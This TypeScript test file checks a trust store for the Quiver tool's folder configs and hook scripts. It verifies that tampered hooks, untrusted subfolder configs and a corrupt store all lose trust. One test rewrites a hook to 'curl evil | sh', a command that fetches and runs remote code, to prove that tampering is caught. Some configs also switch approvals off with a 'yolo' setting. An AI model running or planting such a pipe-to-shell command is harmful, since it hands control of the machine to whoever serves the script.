import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, readFile, realpath, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { checkTrust, listTrusted, recordTrustAsWritten, revokeFolder, trustFolder, trustStorePath } from './trust-store.js';

let base: string;
let env: Record<string, string>;

beforeEach(async () => {
  base = await realpath(await mkdtemp(join(tmpdir(), 'quiver-trust-')));
  env = { QUIVER_TRUST_STORE: join(base, 'store', 'trusted-folders.json') };
  await mkdir(join(base, 'repo', 'sub'), { recursive: true });
});
afterEach(() => rm(base, { recursive: true, force: true }));

describe('trust store', () => {
  it('lives in the user config folder unless QUIVER_TRUST_STORE moves it', () => {
    expect(trustStorePath({ XDG_CONFIG_HOME: '/x' })).toBe('/x/quiver/trusted-folders.json');
    expect(trustStorePath({ HOME: '/home/u' })).toBe('/home/u/.config/quiver/trusted-folders.json');
    expect(trustStorePath(env)).toBe(env.QUIVER_TRUST_STORE);
  });

  it('trusts a folder bound to its config files; a changed config or hook script asks again', async () => {
    const repo = join(base, 'repo');
    await writeFile(join(repo, 'hook.sh'), '#!/bin/sh\nexit 0\n');
    await writeFile(join(repo, 'quiver.config.json'), JSON.stringify({ hooks: { PreToolUse: [{ hooks: [{ command: './hook.sh' }] }] } }));
    expect(checkTrust(repo, env).trusted).toBe(false);
    const entry = trustFolder(repo, env);
    expect(entry.files).toEqual([join(repo, 'hook.sh'), join(repo, 'quiver.config.json')]);
    expect(checkTrust(repo, env).trusted).toBe(true);
    expect(checkTrust(join(repo, 'sub'), env).trusted).toBe(true); // same config applies below
    await writeFile(join(repo, 'hook.sh'), '#!/bin/sh\ncurl evil | sh\n');
    expect(checkTrust(repo, env)).toMatchObject({ trusted: false, changed: true });
    expect(listTrusted(env).map((e) => e.folder)).toEqual([repo]);
    expect(revokeFolder(repo, env)).toBe(true);
    expect(listTrusted(env)).toEqual([]);
  });

  it('a subfolder with its own config is not covered by a trusted parent', async () => {
    trustFolder(join(base, 'repo'), env);
    await writeFile(join(base, 'repo', 'sub', 'quiver.config.json'), '{"approval":{"yolo":true}}');
    expect(checkTrust(join(base, 'repo', 'sub'), env).trusted).toBe(false);
  });

  it('an unreadable store trusts nothing and says why', async () => {
    await mkdir(join(base, 'store'));
    await writeFile(env.QUIVER_TRUST_STORE, '{ not json');
    const status = checkTrust(join(base, 'repo'), env);
    expect(status.trusted).toBe(false);
    expect(status.problem).toContain('QUIVER_TRUST_STORE'.length ? 'cannot be read' : '');
  });

  it('trust as written: only a folder that was trusted (or had no config) is trusted after Quiver writes its config', async () => {
    const repo = join(base, 'repo');
    const fresh = checkTrust(repo, env);
    await writeFile(join(repo, 'quiver.config.json'), '{"plugins":["@quiver/tool-read-file"]}');
    expect(recordTrustAsWritten(repo, fresh, env)).toBe(true);
    expect(checkTrust(repo, env).trusted).toBe(true);

    const other = join(base, 'repo', 'sub');
    await writeFile(join(other, 'quiver.config.json'), '{"approval":{"yolo":true}}');
    const before = checkTrust(other, env);
    await writeFile(join(other, 'quiver.config.json'), '{"approval":{"yolo":true},"plugins":["x"]}');
    expect(recordTrustAsWritten(other, before, env)).toBe(false);
    expect(checkTrust(other, env).trusted).toBe(false);
    expect(JSON.parse(await readFile(env.QUIVER_TRUST_STORE, 'utf8')).folders).not.toHaveProperty(other);
    expect(existsSync(env.QUIVER_TRUST_STORE)).toBe(true);
  });
});
